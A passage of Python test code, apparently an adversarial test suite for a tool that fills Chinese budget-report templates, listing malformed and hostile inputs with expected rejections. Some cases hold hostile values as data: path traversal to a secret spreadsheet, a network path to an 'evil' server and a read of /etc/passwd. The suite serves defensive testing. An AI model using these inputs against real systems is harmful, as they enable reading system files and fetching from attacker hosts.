    yield Attack("data: numbering without end", lambda: data_file("辖区山多", "1.1、" * 2200), HARMLESS)
    yield Attack("data: amounts without end", lambda: data_file("辖区山多", "1万元，占2%，" * 1000), HARMLESS)
    yield Attack("data: brackets without end", lambda: data_file("辖区山多", "（" * 9000), HARMLESS)
    yield Attack(
        "data: a file elsewhere",
        lambda: data_file(amount, '"基本支出" = { "取自" = "../../secret.xlsx", "格" = "A1" }'),
        "取自",
    )
    yield Attack(
        "data: a file on a server",
        lambda: data_file(amount, '"基本支出" = { "取自" = \'\\\\evil\\a.xlsx\', "格" = "A1" }'),
        "取自",
    )
    yield Attack(
        "data: a file of the system",
        lambda: data_file(amount, '"基本支出" = { "取自" = "/etc/passwd", "格" = "A1" }'),
        "取自",
    )
    yield Attack("data: another pack", lambda: filled(DATA.replace('"test"', '"xuwen"')), "不是这个模板")
    yield Attack("data: binary", lambda: filled(b"\x00\x01\x02" * 100), "二进制|不是")
    yield Attack("data: a Word file", lambda: filled(word()), "Word|压缩")
    yield Attack("data: percent signs without end", lambda: data_file("辖区山多", "%" * 9000), HARMLESS)
    yield Attack("data: a line without end", lambda: data_file("辖区山多", "甲" * 20000), "太长")
    yield Attack("data: a file without end", lambda: filled(DATA + "#\n" * 600000), "超过 1 MB")
    yield Attack("data: markup", lambda: data_file("辖区山多", "</w:t><w:altChunk/>]]>&x;"), HARMLESS)
    yield Attack(
        "data: a name that leads out", lambda: data_file('"简称" = "青溪镇"', '"简称" = "../../青溪镇"'), HARMLESS
    )
    yield Attack("data: hundreds of rows", lambda: filled(many_rows(300)), HARMLESS)


def every() -> tuple[Attack, ...]:
    """All attacks."""
    return (*archives(), *word_files(), *tags(), *manifests(), *data_files())
